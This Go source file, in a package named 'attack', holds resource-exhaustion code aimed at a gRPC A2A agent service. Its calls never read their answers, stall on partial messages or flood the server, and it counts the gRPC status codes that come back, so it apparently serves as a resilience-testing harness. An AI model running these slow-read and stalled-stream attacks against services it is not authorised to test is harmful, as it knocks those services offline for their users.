package attack

import (
	"context"
	"encoding/binary"
	"errors"
	"io"
	"net/http"
	"strconv"
	"strings"
	"sync"
)

// Calls is an attack over gRPC as plain HTTP/2: a gRPC client can neither stop reading nor stop in the middle of a
// message.
type Calls struct {
	Target
	Addr   string // host:port of the gRPC listener
	Conns  int    // connections
	Number int    // concurrent calls on each
	seen   *Statuses
}

// NoStatus counts calls whose stream or connection was reset.
const NoStatus = -1

// Calls returns an attack with number concurrent calls on each of conns connections. Answers are counted by gRPC
// code.
func (t *Target) Calls(addr string, conns, number int, seen *Statuses) *Calls {
	return &Calls{Target: *t, Addr: addr, Conns: conns, Number: number, seen: seen}
}

// smallWindow is the flow-control window of a client that does not read.
const smallWindow = 4 << 10

// Unread makes calls and reads only the start of their answers. It returns at once, with a function that ends them.
func (c *Calls) Unread(method string, message []byte) (stop func()) {
	return c.each(func(ctx context.Context, client *http.Client) {
		resp, err := c.call(ctx, client, method, strings.NewReader(framed(message, len(message))))
		if err != nil {
			c.seen.Add(NoStatus)
			return
		}
		defer resp.Body.Close()
		if _, err := io.ReadFull(resp.Body, make([]byte, prefix)); err != nil {
			c.seen.Add(statusOf(resp, err))
			return
		}
		c.seen.Add(0)
		<-ctx.Done()
	})
}

// Stalled makes calls that announce a message of size bytes and send only the first sent bytes.
func (c *Calls) Stalled(method string, size, sent int) (stop func()) {
	begun := framed(make([]byte, sent), size)
	return c.each(func(ctx context.Context, client *http.Client) {
		rest, end := io.Pipe() // the part of the body that never arrives
		defer rest.Close()
		defer context.AfterFunc(ctx, func() { _ = end.CloseWithError(context.Cause(ctx)) })()
		resp, err := c.call(ctx, client, method, io.MultiReader(strings.NewReader(begun), rest))
		if err != nil {
			c.seen.Add(NoStatus)
			return
		}
		defer resp.Body.Close()
		_, err = io.Copy(io.Discard, resp.Body)
		c.seen.Add(statusOf(resp, err))
	})
}

// Flood repeats calls and reads their answers.
func (c *Calls) Flood(method string, message []byte) (stop func()) {
	return c.each(func(ctx context.Context, client *http.Client) {
		for ctx.Err() == nil {
			code, err := c.once(ctx, client, method, message)
			if err == nil || ctx.Err() == nil {
				c.seen.Add(code)
			}
		}
	})
}

// Once makes one call and reads its answer.
func (c *Calls) Once(method string, message []byte) {
	stop := c.each(func(_ context.Context, client *http.Client) {
		code, _ := c.once(context.Background(), client, method, message)
		c.seen.Add(code)
	})
	stop()
}

func (c *Calls) once(ctx context.Context, client *http.Client, method string, message []byte) (code int, err error) {
	resp, err := c.call(ctx, client, method, strings.NewReader(framed(message, len(message))))
	if err != nil {
		return NoStatus, err
	}
	defer resp.Body.Close()
	_, err = io.Copy(io.Discard, resp.Body)
	return statusOf(resp, err), err
}

// each calls play for every call, and returns at once.
func (c *Calls) each(play func(ctx context.Context, client *http.Client)) (stop func()) {
	ctx, cancel := context.WithCancelCause(context.Background())
	var playing sync.WaitGroup
	var clients []*http.Client
	for range c.Conns {
		transport := &http.Transport{Protocols: new(http.Protocols),
			HTTP2: &http.HTTP2Config{MaxReceiveBufferPerStream: smallWindow}}
		transport.Protocols.SetUnencryptedHTTP2(true)
		client := &http.Client{Transport: transport}
		clients = append(clients, client)
		for range c.Number {
			playing.Go(func() { play(ctx, client) })
		}
	}
	return func() {
		cancel(errors.New("the attack is over"))
		playing.Wait()
		for _, client := range clients {
			client.CloseIdleConnections()
		}
	}
}

func (c *Calls) call(ctx context.Context, client *http.Client, method string, body io.Reader) (*http.Response, error) {
	req, err := http.NewRequestWithContext(ctx, http.MethodPost, "http://"+c.Addr+"/lf.a2a.v1.A2AService/"+method, body)
	if err != nil {
		return nil, err
	}
	req.ContentLength = -1
	req.Header = http.Header{"Content-Type": {"application/grpc"}, "Te": {"trailers"}}
	if c.Key != "" {
		req.Header.Set("Authorization", "Bearer "+c.Key)
	}
	return client.Do(req)
}

// prefix is the length of the header of a gRPC message: a flag for compression and the message's length.
const prefix = 5

// framed returns a message with its header, whose length may be wrong.
func framed(message []byte, size int) string {
	head := binary.BigEndian.AppendUint32(make([]byte, 1, prefix+len(message)), uint32(size))
	return string(append(head, message...))
}

// statusOf returns the code of a call that was read to its end.
func statusOf(resp *http.Response, err error) int {
	for _, h := range []http.Header{resp.Trailer, resp.Header} {
		if code, bad := strconv.Atoi(h.Get("Grpc-Status")); bad == nil {
			return code
		}
	}
	if err == nil || errors.Is(err, io.EOF) {
		return 2 // UNKNOWN: an end without a status
	}
	return NoStatus
}

// TaskMessage is the protobuf message that names a task of the target's agent, for GetTask and SubscribeToTask.
func (t *Target) TaskMessage(id string) []byte {
	return appendText(appendText(nil, 1, t.Agent), 2, id)
}

// ListMessage is the protobuf message that asks for a page of n tasks, fewer than 128, with their artifacts.
func (t *Target) ListMessage(n int, token string) []byte {
	m := append(appendText(nil, 1, t.Agent), 4<<3, byte(n))
	return append(appendText(m, 5, token), 8<<3, 1)
}

// appendText appends a field of protobuf that holds text.
func appendText(m []byte, field int, text string) []byte {
	if text == "" {
		return m
	}
	m = binary.AppendUvarint(append(m, byte(field<<3|2)), uint64(len(text)))
	return append(m, text...)
}
